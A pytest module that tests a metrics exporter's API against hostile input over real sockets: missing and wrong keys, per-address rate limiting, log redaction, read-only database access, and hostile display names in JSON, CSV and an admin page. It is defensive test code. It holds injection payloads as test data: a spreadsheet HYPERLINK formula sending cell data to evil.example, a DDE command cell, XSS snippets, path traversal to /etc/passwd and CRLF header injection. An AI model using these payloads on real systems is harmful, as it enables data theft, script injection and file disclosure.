"""Hostile input and access, over real sockets: every API route refuses without a valid key, in
its own failure shape; wrong keys are rate limited per client address and each refusal is logged
without the key; the compatibility routes take hostile parameters, paths and headers without a
traceback; the platform database is never written; and hostile display names stay well-formed
and inert in JSON, CSV and the admin page.

The native routes' hostile parameters and paths are in tests/api/test_native.py, the ownCloud
routes' hostile display names in tests/api/test_owncloud.py."""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import re
import shutil
import sqlite3
import time
import urllib.parse
from collections.abc import Iterator, Mapping
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import expect

from exporter import api
from exporter.api.audit import AuditLog
from exporter.api.coder import SIGNED_OUT
from exporter.api.csvout import FORMULA_STARTS, safe_cell
from exporter.api.owncloud import ERROR_PAGE, FORBIDDEN
from exporter.config import ApiKey
from exporter.exposition import snapshot_json
from exporter.http import App, Context, FailedAttempts, Request, client_address
from exporter.runner import Runner
from exporter.server import HttpServer
from tests.api import test_admin
from tests.api.test_admin import Tab, enter_key
from tests.api.test_native import HOSTILE_QUERIES, raw_exchange
from tests.api.test_owncloud import hostile_db, owncloud_runner
from tests.conftest import (
    API_KEY,
    NEXTCLOUD_DB,
    SERVER_FIXTURES,
    SYNAPSE,
    collect_json,
    fixture_copy,
    make_config,
    read_json,
    sqlite_execute,
)
from tests.demo_daemon import API_KEY as DAEMON_KEY
from tests.demo_daemon import collector_runs, demo_database, running_daemon
from tests.servers import StartedDaemon

KEYS = (ApiKey("tests", API_KEY),)
browser = test_admin.browser  # the headless Chromium fixture, shared
PUBLIC = {"/metrics", "/-/healthy", "/-/ready", "/"}
SYNAPSE_NOW = read_json(SYNAPSE / "phone_home_stats.json")["now_ms"] / 1000
# Display names a hostile user can set: spreadsheet formulas, markup, bidi overrides, controls,
# a NUL, line breaks with quotes and commas, and 10 kB.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
    "\tcmd|' /C calc'!A0", "\r=1+1", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\u202etxt.exe\u202c \u200fמשה\u200f \u2066x\u2069",
    'Line one\nLine "two", with a comma\r\nthree', "nul\x00byte \x01\x1f\ufeff",
    "\u2028\u2029 separators", ("Ünïcödé 山本 \U0001f600 " * 700)[:10240],
    "Alice;=2+5;@SUM(A1)",  # a cell of its own where ';' is the spreadsheet's delimiter
]


def call(base: str, path: str, headers: Mapping[str, str] | None = None,
         source: str = "127.0.0.1") -> tuple[int, dict[str, str], bytes]:
    """One GET with http.client from the given loopback address, the path sent as written."""
    parts = urllib.parse.urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30,
                                      source_address=(source, 0))
    try:
        conn.request("GET", path, headers=dict(headers or {}))
        response = conn.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        conn.close()


def serve(runner: Runner, attempts: FailedAttempts | None = None) -> tuple[HttpServer, str]:
    context = Context(lambda: runner.snapshot, KEYS, runner.history, runner.clock,
                      read=runner.read, audit=AuditLog(runner.history),
                      attempts=attempts, profile=runner.profile)
    server = HttpServer(App(context, api.routes(context)), "127.0.0.1", 0).start()
    return server, f"http://127.0.0.1:{server.port}"


def api_routes() -> list[str]:
    """Every route of the App that is not public: each must refuse without a valid key."""
    context = Context(lambda: None, KEYS)  # type: ignore[arg-type, return-value]
    routes = set(App(context, api.routes(context)).routes)
    assert routes >= PUBLIC
    return sorted(routes - PUBLIC)


API_ROUTES = api_routes()
OPENL2M = "/api/stats/"


def with_names(source: Path, directory: Path, select_ids: str, update: str) -> Path:
    """A copy of `source` whose users, as `select_ids` lists them, get HOSTILE_NAMES in turn."""
    copy = directory / source.name
    shutil.copyfile(source, copy)
    with closing(sqlite3.connect(copy)) as conn, conn:
        ids = [user for (user,) in conn.execute(select_ids)]
        conn.executemany(update, list(zip(HOSTILE_NAMES, ids, strict=False)))
    return copy


def refreshed(db: Path, platform: str, now: float) -> Runner:
    runner = Runner(make_config(f"sqlite:///{db}", platform), clock=lambda: now)
    assert runner.run_all().failures == {}
    return runner


@pytest.fixture(scope="module")
def nextcloud(tmp_path_factory, nextcloud_now) -> Iterator[Runner]:
    """The Nextcloud fixture, HOSTILE_NAMES as display names."""
    db = with_names(NEXTCLOUD_DB, tmp_path_factory.mktemp("nextcloud"),
                    "SELECT uid FROM oc_users ORDER BY uid",
                    "UPDATE oc_users SET displayname = ? WHERE uid = ?")
    runner = refreshed(db, "nextcloud", nextcloud_now)
    yield runner
    runner.close()


@pytest.fixture(scope="module")
def synapse(tmp_path_factory) -> Iterator[Runner]:
    """The Synapse fixture, HOSTILE_NAMES as the display names of users with media."""
    db = with_names(fixture_copy(SYNAPSE / "homeserver.db"), tmp_path_factory.mktemp("synapse"),
                    "SELECT DISTINCT user_id FROM local_media_repository WHERE user_id IN "
                    "(SELECT full_user_id FROM profiles) ORDER BY user_id",
                    "UPDATE profiles SET displayname = ? WHERE full_user_id = ?")
    runner = refreshed(db, "synapse", SYNAPSE_NOW)
    yield runner
    runner.close()


@pytest.fixture(scope="module")
def owncloud(tmp_path_factory) -> Iterator[Runner]:
    db = hostile_db(tmp_path_factory.mktemp("owncloud") / "owncloud.db")
    runner = owncloud_runner(f"sqlite:///{db}")
    yield runner
    runner.close()


@pytest.fixture(scope="module")
def events(tmp_path_factory) -> Iterator[Runner]:
    """A custom platform with events and totals, HOSTILE_NAMES as their kinds, users and names
    (what /api/stats/ reads)."""
    db = tmp_path_factory.mktemp("events") / "events.db"
    with closing(sqlite3.connect(db)) as conn, conn:
        conn.execute("CREATE TABLE log (kind TEXT, who TEXT, happened REAL)")
        conn.executemany("INSERT INTO log VALUES (?, ?, ?)",
                         [(kind, name, SYNAPSE_NOW - 60 * n)
                          for n, name in enumerate(HOSTILE_NAMES)
                          for kind in ("change", "login", name)])
    relations = {"events": "SELECT kind, who AS user_id, NULL AS subject, happened AS at "
                           "FROM log",
                 "totals": "SELECT who AS name, count(*) AS value FROM log GROUP BY who"}
    runner = Runner(make_config(f"sqlite:///{db}", "custom", database={"relations": relations}),
                    clock=lambda: SYNAPSE_NOW)
    assert runner.run_all().failures == {}
    yield runner
    runner.close()


@pytest.fixture(scope="module")
def urls(nextcloud, synapse, owncloud, events) -> Iterator[dict[str, str]]:
    """A server per platform, without a rate limit."""
    servers = {name: serve(runner) for name, runner in
               (("nextcloud", nextcloud), ("synapse", synapse), ("owncloud", owncloud),
                ("events", events))}
    yield {name: url for name, (_, url) in servers.items()}
    for server, _ in servers.values():
        server.stop()


# --- no data without a valid key ----------------------------------------------------------

WRONG = "wrong-key-0123456789abcdef"
NO_VALID_KEY = {
    "none": {},
    "wrong bearer": {"Authorization": f"Bearer {WRONG}"},
    "wrong token": {"Authorization": f"Token {WRONG}"},
    "wrong OC-MetricsApiKey": {"OC-MetricsApiKey": WRONG},
    "wrong Coder-Session-Token": {"Coder-Session-Token": WRONG},
    "the key as basic auth": {"Authorization": f"Basic {API_KEY}"},
    "a prefix of the key": {"Authorization": f"Bearer {API_KEY[:-1]}"},
    "the key and more": {"Authorization": f"Bearer {API_KEY}x"},
    "the key in lower case": {"Authorization": f"Bearer {API_KEY.upper()}"},
    "an empty bearer": {"Authorization": "Bearer "},
}


def assert_refused(path: str, platform: str, status: int, headers: dict[str, str],
                   body: bytes) -> None:
    """The route's own refusal: the native error, Synapse's, Coder's, or what ownCloud's
    metrics app answers (a route of another platform may say it is not served instead)."""
    if path.startswith("/api/v1/"):
        error = json.loads(body)
        assert set(error) == {"code", "message"}
        assert (status, error["code"]) in ((401, 401.1), (403, 403.1)), (path, body)
    elif path.startswith("/_synapse/"):
        error = json.loads(body)
        assert (status, error) in ((401, {"errcode": "M_MISSING_TOKEN",
                                          "error": "Missing access token"}),
                                   (403, {"errcode": "M_FORBIDDEN",
                                          "error": "You are not a server admin"}))
    elif path.startswith("/api/v2/"):
        error = json.loads(body)
        assert status == 401 and set(error) == {"message", "detail"}
        assert error["message"] == SIGNED_OUT
    elif path == OPENL2M:
        assert status == 401 and headers["WWW-Authenticate"] == "Token"
        assert json.loads(body) in ({"detail": "Authentication credentials were not provided."},
                                    {"detail": "Invalid token."}), body
    elif platform != "owncloud":
        assert (status, json.loads(body)["code"]) == (404, 404.1), path
    elif path.startswith("/ocs/"):
        meta, data = json.loads(body)["ocs"]["meta"], json.loads(body)["ocs"]["data"]
        assert (meta["statuscode"], meta["message"], data) == (
            996 if "/v1.php/" in path else 500, FORBIDDEN, [])
        assert status == (200 if "/v1.php/" in path else 500)
    else:
        assert (status, body) == (500, ERROR_PAGE), path


def identities(runner: Runner) -> set[str]:
    """Strings only data would contain: user ids and display names of 6 characters or more."""
    rows = snapshot_json(runner.snapshot, users=True)["users"]
    if not rows:  # a platform of events only: its names are the secrets
        return {name for name in HOSTILE_NAMES if len(name) >= 6}
    return {value for row in rows for value in (row["user_id"], row.get("display_name"))
            if isinstance(value, str) and len(value) >= 6}


@pytest.mark.parametrize("platform", ["nextcloud", "synapse", "owncloud", "events"])
def test_no_api_route_answers_data_without_a_valid_key(urls, platform, request):
    runner = request.getfixturevalue(platform)
    secret_strings = identities(runner)
    assert len(secret_strings) > 5
    for path in API_ROUTES:
        query = "?format=json" if path.startswith("/ocs/") else ""
        for name, headers in NO_VALID_KEY.items():
            status, answer_headers, body = call(urls[platform], path + query, headers)
            assert_refused(path, platform, status, answer_headers, body)
            text = body.decode("utf-8", "replace")
            assert not any(re.search(rf"(?<!\w){re.escape(s)}(?!\w)", text)
                           for s in secret_strings), (path, name)


def test_the_right_key_in_any_header_opens_every_route(urls):
    """The refusals above are refusals of the key: the same requests with it are answered."""
    header_forms = [{"Authorization": f"Bearer {API_KEY}"}, {"Authorization": f"token {API_KEY}"},
                    {"OC-MetricsApiKey": API_KEY}, {"Coder-Session-Token": API_KEY}]
    for path in API_ROUTES:
        platform = ("synapse" if path.startswith("/_synapse/") else
                    "events" if path == OPENL2M else "owncloud")
        query = "?format=json" if path.startswith("/ocs/") else ""
        for headers in header_forms:
            status, _, body = call(urls[platform], path + query, headers)
            assert status == 200, (path, headers, body[:200])
            if path.startswith("/ocs/"):
                assert json.loads(body)["ocs"]["meta"]["statuscode"] in (100, 200)


# --- rate limit on wrong keys -------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def limited(owncloud) -> Iterator[tuple[str, Clock]]:
    """The ownCloud runner served with 3 wrong keys allowed per address per minute."""
    clock = Clock()
    server, url = serve(owncloud, FailedAttempts(limit=3, window=60, clock=clock))
    yield url, clock
    server.stop()


BEARER = {"Authorization": f"Bearer {API_KEY}"}
STATS = "/api/v1/stats"


def test_after_too_many_wrong_keys_an_address_gets_429_even_with_the_right_key(limited):
    url, clock = limited
    for n in range(3):
        assert call(url, STATS, {"Authorization": f"Bearer {WRONG}{n}"}, "127.0.0.2")[0] == 403
    clock.now += 10
    status, headers, body = call(url, STATS, BEARER, "127.0.0.2")
    assert status == 429 and headers["Retry-After"] == "50"
    assert json.loads(body) == {"code": 429.1, "message": "Too many wrong API keys from this "
                                "address; try again in 50 seconds."}
    # Other addresses are not affected.
    assert call(url, STATS, BEARER, "127.0.0.3")[0] == 200
    clock.now += 50
    assert call(url, STATS, BEARER, "127.0.0.2")[0] == 200


def test_the_limit_slides_one_wrong_key_at_a_time(limited):
    url, clock = limited
    for _ in range(3):
        call(url, STATS, {"Authorization": f"Bearer {WRONG}"}, "127.0.0.2")
        clock.now += 20
    # The first of the three is now 60 s old: one more try, which fails and blocks again.
    assert call(url, STATS, {"Authorization": f"Bearer {WRONG}"}, "127.0.0.2")[0] == 403
    status, headers, _ = call(url, STATS, BEARER, "127.0.0.2")
    assert (status, headers["Retry-After"]) == (429, "20")


def test_requests_without_a_key_are_not_counted_as_guesses(limited):
    url, _ = limited
    for _ in range(10):
        assert call(url, STATS, {}, "127.0.0.4")[0] == 401
    assert call(url, STATS, BEARER, "127.0.0.4")[0] == 200


def test_every_route_answers_the_limit_in_its_own_shape(limited):
    url, _ = limited
    for _ in range(3):
        call(url, STATS, {"Authorization": f"Bearer {WRONG}"}, "127.0.0.5")
    for path in API_ROUTES:
        query = "?format=json" if path.startswith("/ocs/") else ""
        status, headers, body = call(url, path + query, BEARER, "127.0.0.5")
        assert status == 429 and headers["Retry-After"] == "60", path
        if path.startswith("/api/v1/"):
            assert json.loads(body)["code"] == 429.1
        elif path.startswith("/_synapse/"):
            assert json.loads(body) == {"errcode": "M_LIMIT_EXCEEDED",
                                        "error": "Too Many Requests", "retry_after_ms": 60000}
        elif path.startswith("/api/v2/"):
            assert set(json.loads(body)) == {"message"}
        elif path == OPENL2M:
            assert set(json.loads(body)) == {"detail"}
        elif path.startswith("/ocs/"):
            meta = json.loads(body)["ocs"]["meta"]
            assert (meta["status"], meta["statuscode"]) == ("failure", 429)
        else:
            assert headers["Content-Type"].startswith("text/plain")
            assert body.startswith(b"Too many wrong API keys")


def test_the_table_of_addresses_is_bounded_and_forgets_the_oldest():
    attempts = FailedAttempts(limit=2, window=60, capacity=100, clock=lambda: 0.0)
    for n in range(1000):
        attempts.failed(f"10.0.{n // 256}.{n % 256}")
        attempts.failed(f"10.0.{n // 256}.{n % 256}")
    assert len(attempts) == 100
    assert attempts.retry_after("10.0.3.231") == 60  # the 1000th address, still blocked
    assert attempts.retry_after("10.0.0.0") == 0  # the first, forgotten


def test_ipv6_clients_are_limited_by_their_64_network():
    def address(remote: str) -> str:
        return client_address(Request({"REMOTE_ADDR": remote}, "/", {}))

    assert address("2001:db8::1") == address("2001:db8::ffff:1") == "2001:db8::/64"
    assert address("2001:db8:0:1::1") == "2001:db8:0:1::/64"
    assert address("::ffff:192.0.2.1") == "::ffff:192.0.2.1"
    assert address("192.0.2.1") == "192.0.2.1"


def history_bytes(directory: Path) -> bytes:
    return b"".join(path.read_bytes() for path in directory.glob("history.db*"))


def test_the_daemon_logs_each_refusal_with_the_address_and_never_a_key(tmp_path):
    wrong_keys = [f"guess-{n:02d}-0123456789abcdef" for n in range(12)]
    with running_daemon(tmp_path, demo_database(tmp_path / "db", 50), interval=60) as daemon:
        url = daemon.url
        right = {"Authorization": f"Bearer {DAEMON_KEY}"}
        answered = [
            call(url, f"/api/v1/users?limit=1&access_token={DAEMON_KEY}&note=x{DAEMON_KEY}x",
                 right),
            call(url, "/api/v1/stats", {"Authorization": f"Token {DAEMON_KEY}"}),
            call(url, "/api/v2/insights/daus", {"Coder-Session-Token": DAEMON_KEY}),
            call(url, "/api/v1/snapshot", {"OC-MetricsApiKey": DAEMON_KEY}),
        ]
        refused = [call(url, "/api/v1/users", {"Authorization": f"Bearer {key}"}, "127.0.0.2")
                   for key in wrong_keys]
        blocked = call(url, "/api/v1/users", right, "127.0.0.2")
        still_open = call(url, "/api/v1/users", right)
    assert [status for status, _, _ in answered] == [200] * 4
    assert [status for status, _, _ in refused] == [403] * 10 + [429] * 2
    assert (blocked[0], still_open[0]) == (429, 200)

    log = daemon.log_path.read_bytes()
    events = [json.loads(line) for line in log.splitlines() if line.startswith(b"{")]
    refusals = [e for e in events if e["event"] == "api_refused"]
    assert [(e["address"], e["code"], e["route"]) for e in refusals] == [
        ("127.0.0.2", 403.1, "/api/v1/users")] * 10 + [("127.0.0.2", 429.1, "/api/v1/users")] * 3
    uses = [e for e in events if e["event"] == "api_request"]
    assert len(uses) == 5 and {e["key"] for e in uses} == {"bench"}
    assert uses[0]["query"] == {"limit": "1", "access_token": None, "note": None}

    with closing(sqlite3.connect(tmp_path / "history.db")) as conn:
        audited = conn.execute("SELECT count(*) FROM usage_api_audits").fetchone()[0]
    assert audited == 5
    stored = history_bytes(tmp_path)
    for secret in [DAEMON_KEY, *wrong_keys]:
        assert secret.encode() not in log, secret
        assert secret.encode() not in stored, secret


# --- hostile requests to the compatibility routes -----------------------------------------

COMPAT_QUERIES = [
    *HOSTILE_QUERIES,
    # Synapse
    "from=-1", "limit=-5", "from_ts=%00", "until_ts=1e3", "from_ts=5&until_ts=5",
    "order_by=media_length%00", "search_term=", "search_term=%25%25%25_" + "%25" * 3000,
    "search_term=%F0%9F%92%A9", "dir=B", "limit=" + "9" * 30, "from=" + "9" * 30,
    # Coder
    "tz_offset=" + "9" * 30, "tz_offset=-99999", "tz_offset=1.5", "timezone=../../etc/passwd",
    "timezone=%00", "timezone=Etc%2F..%2F..%2Fetc%2Fpasswd", "timezone=" + "A" * 5000,
    "interval=x", "timezone=UTC&tz_offset=2", "unknown=1",
    # ownCloud
    "format=json&users=%00", "format=xml&userData=true&quota=true&files=true&shares=true",
    "format=json&userData=true&users=true", "format=xml&" + "users=true&" * 500,
]
COMPAT_ROUTES = [path for path in API_ROUTES if not path.startswith("/api/v1/")]
KEY_HEADERS = {"Authorization": f"Bearer {API_KEY}", "OC-MetricsApiKey": API_KEY}


def assert_answered_in_route_shape(path: str, query: str, status: int,
                                   headers: dict[str, str], body: bytes) -> None:
    assert b"Traceback" not in body and b'File "' not in body, (path, query)
    assert "Set-Cookie" not in headers and "Location" not in headers
    if path.startswith("/_synapse/"):
        assert status < 500, (path, query, body[:300])
        answer = json.loads(body)
        assert status == 200 or set(answer) == {"errcode", "error"}
    elif path.startswith("/api/v2/"):
        assert status < 500, (path, query, body[:300])
        answer = json.loads(body)
        assert status == 200 or "message" in answer
    elif path == OPENL2M:
        answer = json.loads(body)
        assert (status, set(answer)) in ((200, {"database", "usage"}), (404, {"detail"})), query
    elif path.startswith("/ocs/"):
        fmt = urllib.parse.parse_qs(query, keep_blank_values=True).get("format", ["xml"])[-1]
        if fmt not in ("json", "xml"):
            # ownCloud core has no responder for the format and ends with an empty 500.
            assert (status, body) == (500, b""), (path, query)
        elif fmt == "json":
            assert json.loads(body)["ocs"]["meta"]["statuscode"] in (100, 200), query
        else:
            assert b"<statuscode>" in body and status == 200, query
    else:
        assert status == 200 and headers["Content-Type"] == "text/csv", (path, query)
        rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
        assert len({len(row) for row in rows}) == 1


@pytest.mark.parametrize("query", COMPAT_QUERIES)
def test_hostile_parameters_get_the_routes_own_answers_never_a_traceback(urls, query):
    for path in COMPAT_ROUTES:
        for platform in ("owncloud", "synapse", "events"):
            if (path.startswith("/_synapse/")) != (platform == "synapse") or (
                    platform == "events") != (path == OPENL2M):
                continue
            status, headers, body = call(urls[platform], f"{path}?{query}", KEY_HEADERS)
            assert_answered_in_route_shape(path, query, status, headers, body)


@pytest.mark.parametrize("path", [
    "/_synapse/admin/v1/statistics/users/media/../../../../etc/passwd",
    "/_synapse/admin/v1/statistics/users/media%00", "/_synapse/admin/v1/statistics/users/",
    "/ocs/v1.php/../../etc/passwd", "/ocs/v3.php/apps/metrics/api/v1/metrics",
    "/ocs/v1.php/apps/metrics/api/v1/metrics/..", "/index.php/apps/metrics/download-api/..",
    "/index.php/apps/metrics/download-api/users%2F..%2Fsystem",
    "/index.php/apps/metrics/download-api/%2e%2e", "/api/v2/insights/daus%00.json",
    "/api/v2/insights/../../../etc/passwd", "/api/v2/insights/DAUS",
])
def test_hostile_paths_near_the_compatibility_routes_are_not_found(urls, path):
    status, _, body = call(urls["owncloud"], path, KEY_HEADERS)
    assert (status, json.loads(body)) == (404, {"code": 404.1, "message": "Not found."})


@pytest.mark.parametrize("path", COMPAT_ROUTES)
@pytest.mark.parametrize("header", [
    b"OC-MetricsApiKey: " + API_KEY.encode() + b"\rX-Injected: 1",
    b"Coder-Session-Token: \x00" + API_KEY.encode(),
    b"Authorization: Bearer \xff\xfe" + API_KEY.encode(),
    b"OC-MetricsApiKey: " + b"k" * 100_000,
    b"Authorization: Bearer " + API_KEY.encode() + b"\r\nAuthorization: Bearer x",
])
def test_hostile_headers_on_the_compatibility_routes_are_refused(urls, path, header):
    answer = raw_exchange(urls["owncloud"], b"GET " + path.encode() + b"?format=json HTTP/1.1"
                          b"\r\nHost: x\r\n" + header + b"\r\nConnection: close\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    assert b"Traceback" not in answer
    assert not any(line.startswith(b"X-Injected") for line in head.split(b"\r\n"))
    if status < 400:  # ownCloud's OCS v1 answers a refusal with 200 and its failure envelope
        assert path.startswith("/ocs/v1.php/")
        assert json.loads(body)["ocs"]["meta"]["statuscode"] == 996
    else:
        assert status in (400, 401, 403, 431, 500), (path, answer[:300])
        if status == 500:
            assert path.startswith(("/ocs/v2.php/", "/index.php/")), path


# --- the platform database is never written -----------------------------------------------


@pytest.mark.parametrize("backend", ["postgresql", "mariadb"])
def test_a_database_user_with_only_select_rights_runs_a_full_refresh(
        backend, request, server_database, nextcloud_now):
    admin_url = server_database(backend, "nextcloud_select_only", NEXTCLOUD_DB)
    server = request.getfixturevalue(SERVER_FIXTURES[backend])
    select_only = server.readonly_url("nextcloud_select_only")
    results = [collect_json(url, "nextcloud", nextcloud_now) for url in (select_only, admin_url)]
    assert results[0]["metrics"] == results[1]["metrics"]
    assert results[0]["users"] == results[1]["users"]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_daemon_through_refreshes(directory: Path, database: Path) -> None:
    """The daemon until every collector has run twice (the second from a pooled connection)."""
    with running_daemon(directory, database, interval=1) as daemon:
        wait_for_runs(daemon, 2)


def wait_for_runs(daemon: StartedDaemon, runs: int) -> None:
    deadline = time.monotonic() + 60
    while min(count for count, _ in collector_runs(daemon.url).values()) < runs:
        assert time.monotonic() < deadline, "the collectors did not run"
        time.sleep(0.2)


def test_a_daemon_run_leaves_a_sqlite_database_and_its_directory_unchanged(tmp_path):
    database = demo_database(tmp_path / "platform", 100)
    with closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    before = (sha256(database), sorted(p.name for p in database.parent.iterdir()))
    run_daemon_through_refreshes(tmp_path / "daemon", database)
    assert (sha256(database), sorted(p.name for p in database.parent.iterdir())) == before


def test_a_daemon_run_leaves_a_wal_database_unchanged(tmp_path):
    """SQLite readers of a WAL database need its -wal and -shm files and create them if the
    platform has not; nothing is written to the log."""
    database = tmp_path / "platform" / "nextcloud.db"
    database.parent.mkdir()
    shutil.copyfile(NEXTCLOUD_DB, database)
    before = sha256(database)
    run_daemon_through_refreshes(tmp_path / "daemon", database)
    assert sha256(database) == before
    names = {p.name for p in database.parent.iterdir()}
    assert names <= {"nextcloud.db", "nextcloud.db-wal", "nextcloud.db-shm"}
    wal = database.with_name("nextcloud.db-wal")
    assert not wal.exists() or wal.stat().st_size == 0


# --- hostile display names in JSON and CSV ----------------------------------------------------


def named_users(runner: Runner, column: str = "display_name") -> dict[str, str]:
    names = runner.snapshot.user_columns()[column]
    hostile = {user: name for user, name in names.items() if name in HOSTILE_NAMES}
    assert set(hostile.values()) == set(HOSTILE_NAMES)
    return hostile


def test_users_and_snapshot_json_keep_hostile_names_exactly(urls, nextcloud):
    hostile = named_users(nextcloud)
    for path, key in (("/api/v1/users?limit=1000", "users"),
                      ("/api/v1/snapshot?users=true", "users")):
        status, headers, body = call(urls["nextcloud"], path, BEARER)
        assert status == 200 and headers["Content-Type"] == "application/json"
        rows = {row["user_id"]: row for row in json.loads(body)[key]}
        assert {user: rows[user]["display_name"] for user in hostile} == hostile
    searched = call(urls["nextcloud"], "/api/v1/users?search_term=%3Cscript%3E", BEARER)[2]
    assert [row["display_name"] for row in json.loads(searched)["users"]] == [
        "<script>alert(1)</script>"]


def test_users_csv_stays_rectangular_and_inert_with_hostile_names(urls, nextcloud):
    hostile = named_users(nextcloud)
    status, headers, body = call(urls["nextcloud"], "/api/v1/users.csv", BEARER)
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    header, *rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert len(rows) == len(list(nextcloud.snapshot.user_rows()))
    assert {len(row) for row in rows} == {len(header)}
    names = {row[0]: row[header.index("display_name")] for row in rows}
    assert {user: names[user] for user in hostile} == {
        user: safe_cell(name) for user, name in hostile.items()}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row
                   if not cell.lstrip("-").replace(".", "", 1).isdigit())
    # Read as a ';'-delimited spreadsheet reads it: no cell there is a formula either.
    semicolon_cells = [cell for line in body.decode().splitlines()
                       for cell in line.split(";")[1:]]
    assert semicolon_cells and not any(c.startswith(FORMULA_STARTS) for c in semicolon_cells)


def test_synapse_media_statistics_keep_hostile_names_exactly(urls, synapse):
    hostile = named_users(synapse)
    status, headers, body = call(urls["synapse"], "/_synapse/admin/v1/statistics/users/media"
                                 "?limit=1000", BEARER)
    assert status == 200 and headers["Content-Type"] == "application/json"
    rows = {row["user_id"]: row["displayname"] for row in json.loads(body)["users"]}
    assert {user: rows[user] for user in hostile} == hostile


# --- the admin page -----------------------------------------------------------------------

PWNED = ["<img src=x onerror=window.__pwned=1>", "<script>window.__pwned=1</script>",
         "<svg onload=window.__pwned=1>"]


@pytest.fixture(scope="module")
def pwned_url(tmp_path_factory, nextcloud_now) -> Iterator[str]:
    """Markup that would set window.__pwned as the names of the users with the most storage."""
    db = tmp_path_factory.mktemp("pwned") / "nextcloud.db"
    shutil.copyfile(NEXTCLOUD_DB, db)
    runner = Runner(make_config(f"sqlite:///{db}", "nextcloud"), clock=lambda: nextcloud_now)
    runner.run_all()
    used = runner.snapshot.user_columns()["used_bytes"]
    top = sorted((u for u in used if used[u] is not None), key=lambda u: -used[u])[:len(PWNED)]
    sqlite_execute(db, *(f"UPDATE oc_users SET displayname = '{name}' WHERE uid = '{user}'"
                         for name, user in zip(PWNED, top, strict=True)))
    assert runner.run_all().failures == {}
    server, url = serve(runner)
    yield url
    server.stop()
    runner.close()


def test_the_admin_page_shows_markup_in_names_as_text_and_runs_none_of_it(browser, pwned_url):
    tab = Tab(browser.new_page())
    page = tab.page
    try:
        page.goto(pwned_url + "/")
        enter_key(page, API_KEY)
        names = page.locator("#users tr td:first-child bdi:first-child")
        expect(names).to_have_count(10)
        assert names.all_text_contents()[:len(PWNED)] == PWNED
        page.wait_for_timeout(500)  # an onerror or onload would have fired by now
        assert page.evaluate("window.__pwned") is None
        assert page.locator("#users img, #users script, #users svg").count() == 0
        assert tab.dialogs == []
    finally:
        page.close()
